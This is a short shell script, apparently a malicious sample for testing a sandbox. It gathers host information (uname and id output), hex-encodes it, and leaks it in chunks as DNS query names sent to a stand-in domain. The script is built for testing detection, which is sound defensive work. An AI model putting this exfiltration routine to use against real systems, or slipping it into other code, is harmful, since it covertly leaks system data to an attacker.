#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: leaks host data in DNS query names (T1048.003).
# Inert: the queries go to the fake resolver; the domain is a test name.
data=$( (uname -a; id) | xxd -p 2>/dev/null | tr -d '\n' || (uname -a; id) | od -An -tx1 | tr -d ' \n')
i=0
while [ -n "$data" ] && [ $i -lt 6 ]; do
  chunk=$(printf '%s' "$data" | cut -c1-60)
  data=$(printf '%s' "$data" | cut -c61-)
  name="$i.$chunk.t.exfil.example.test"
  dig +short "$name" 2>/dev/null || nslookup "$name" 2>/dev/null || getent hosts "$name"
  i=$((i + 1))
done > /dev/null
exit 0
